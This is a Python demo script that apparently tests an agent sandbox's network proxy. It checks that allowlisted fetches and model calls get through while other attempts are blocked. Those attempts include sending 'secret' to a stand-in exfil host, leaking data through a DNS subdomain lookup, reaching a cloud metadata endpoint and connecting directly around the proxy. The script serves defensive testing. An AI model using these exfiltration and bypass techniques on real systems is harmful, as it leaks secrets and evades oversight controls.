"""The network half of the demo: an agent in proxy mode reaches what its policy allows and
nothing else, and calls a model API without ever holding the key. Run by demo/run.sh."""
import json
import os
import socket
import urllib.error
import urllib.request

PORT = int(os.environ["DEMO_PORT"])


def report(what, ok, detail):
    mark = "BLOCKED " if not ok else "allowed "
    print(f"  net [{mark}] {what:<40} {detail}", flush=True)


def get(what, url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            report(what, True, f"HTTP {r.status}")
    except urllib.error.HTTPError as e:
        report(what, False, f"HTTP {e.code} from warden's proxy")
    except OSError as e:
        report(what, False, str(getattr(e, "reason", e)))


def model(what, name):
    req = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        json.dumps({"model": name, "max_tokens": 16,
                    "messages": [{"role": "user", "content": "hello"}]}).encode(),
        {"content-type": "application/json",
         "authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            answer = json.load(r)["choices"][0]["message"]["content"]
            report(what, True, f"answered: {answer[:30]!r}")
    except urllib.error.HTTPError as e:
        report(what, False, f"HTTP {e.code}: {json.load(e)['error']['message'][:40]}")


print("agent: using the network", flush=True)
get("fetch the docs it needs", f"http://docs.demo.test:{PORT}/")
get("send data to another site", f"http://exfil.demo.test:{PORT}/?data=secret")
get("allowed name resolving to metadata IP", "http://metadata.demo.test/latest/meta-data/")
try:
    socket.getaddrinfo("c2VjcmV0.exfil.demo.test", 80)
    report("leak data through DNS", True, "resolved!")
except socket.gaierror as e:
    report("leak data through DNS", False, e.strerror)
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("1.1.1.1", 443))
    report("connect directly, ignoring the proxy", True, "connected!")
except OSError as e:
    report("connect directly, ignoring the proxy", False, e.strerror or str(e))
key = os.environ.get("OPENAI_API_KEY", "")
print(f"  OPENAI_API_KEY inside is {key[:12]}... (worthless outside this sandbox)", flush=True)
model("call the allowed model", "demo-mini")
model("call a model the policy does not allow", "gpt-expensive")
